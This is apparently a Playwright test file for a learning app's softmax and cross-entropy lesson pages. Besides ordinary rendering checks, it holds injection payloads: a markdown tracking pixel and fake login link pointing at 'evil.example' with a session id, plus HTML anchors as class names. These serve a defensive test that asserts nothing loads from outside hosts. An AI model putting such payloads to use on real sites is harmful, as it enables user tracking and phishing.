"""The softmax and cross-entropy lessons in headless Chromium: they open, and typing works."""

import re
import urllib.parse

import pytest
import torch
from playwright.sync_api import expect

from tests.browser import browser, needs_chromium, open_app_page, page, server_url  # noqa: F401

pytestmark = [pytest.mark.browser, needs_chromium]
METRIC_SHOWS = (
    "() => [...document.querySelectorAll('[data-testid=\"stMetric\"]')]"
    ".some(m => m.innerText.includes('%s'))"
)


def no_exception(page) -> bool:  # noqa: F811
    return page.locator('[data-testid="stException"]').count() == 0


def test_softmax_defaults_and_typed_extreme_logits(page, server_url):  # noqa: F811
    open_app_page(page, server_url, "Softmax_and_Argmax", "Softmax and argmax")
    assert no_exception(page)
    page.locator("strong", has_text="[0.40, 0.36, 0.24]").first.wait_for()
    page.get_by_text("Dimension out of range").first.wait_for()
    box = page.get_by_placeholder("e.g. 1000, 0, -1000")
    box.fill("1000, 0, -1000")
    box.press("Enter")
    page.locator("strong", has_text="[1.00, 0.00, 0.00]").first.wait_for()
    page.wait_for_url(re.compile(r"sm_typed=1000"))
    assert no_exception(page)


def test_cross_entropy_link_restores_true_class(page, server_url):  # noqa: F811
    open_app_page(
        page, server_url, "Multiclass_Cross_Entropy?ce_y=bird", "Multiclass cross-entropy"
    )
    assert no_exception(page)
    builtin = page.locator('[data-testid="stMetric"]').filter(
        has=page.locator('[data-testid="stMetricLabel"]', has_text="nn.CrossEntropyLoss(logits)")
    )
    expect(builtin.first.locator('[data-testid="stMetricValue"]')).to_have_text(
        "1.4208", timeout=60_000
    )
    box = page.get_by_placeholder("e.g. 1000, 0, -1000")
    box.fill("1000, 0, -1000")
    box.press("Enter")
    page.wait_for_function(METRIC_SHOWS % "2000.0000")
    assert no_exception(page)


PIXEL = (
    "![pixel](https://evil.example/pixel.png?sid=42)[Click_to_log_in](https://evil.example/login)"
)
ANCHOR = '<a href="//e.vil">Go</a>'
LIVE = "a[href*='e.vil'], a[href*='evil'], img[src*='evil'], svg a"
NO_JOINER = "(el) => el.innerText.replaceAll('\\u2060', '')"


def hostile_link(prefix: str) -> str:
    """The issue's link: hostile typed logits, and two class names that are HTML links."""
    names = {f"{prefix}_name1": ANCHOR, f"{prefix}_name2": ANCHOR[:-1] + "!"}
    return urllib.parse.urlencode({f"{prefix}_typed": PIXEL, **names})


@pytest.mark.parametrize(
    ("path", "prefix", "title"),
    [
        ("Softmax_and_Argmax", "sm", "Softmax and argmax"),
        ("Multiclass_Cross_Entropy", "ce", "Multiclass cross-entropy"),
    ],
)
def test_a_hostile_link_shows_its_text_and_loads_nothing_from_outside(
    page,  # noqa: F811
    server_url,  # noqa: F811
    path,
    prefix,
    title,
):
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    open_app_page(page, server_url, f"{path}?{hostile_link(prefix)}", title)
    page.locator('[data-testid="stPlotlyChart"]').first.wait_for()
    page.wait_for_load_state("networkidle")
    assert no_exception(page)
    # Nothing was fetched from anywhere but this server (the pixel above would be).
    hosts = {urllib.parse.urlsplit(url).hostname for url in requests if url.startswith("http")}
    assert hosts == {"127.0.0.1"}, hosts
    # No link or image made of the learner's text, in the page or in a chart's SVG.
    assert page.locator(LIVE).count() == 0
    # The text itself is shown, character for character, in the error box …
    error = page.locator('[data-testid="stAlertContentError"]').first
    assert f"“{PIXEL}” is not a number" in error.evaluate(NO_JOINER)
    # … and the names as the charts' tick labels.
    ticks = page.locator(".xtick text").all_text_contents()
    assert ANCHOR in ticks and ANCHOR[:-1] + "!" in ticks


def test_the_cheat_sheets_argmax_error_reads_as_torch_wrote_it(page, server_url):  # noqa: F811
    open_app_page(page, server_url, "Softmax_and_Argmax", "Softmax and argmax")
    with pytest.raises(IndexError) as info:
        torch.argmax(torch.tensor([0.4, 0.36, 0.24]), dim=1)
    error = page.locator('[data-testid="stAlertContentError"]').first
    assert error.evaluate(NO_JOINER).strip() == f"It raises: IndexError: {info.value}"
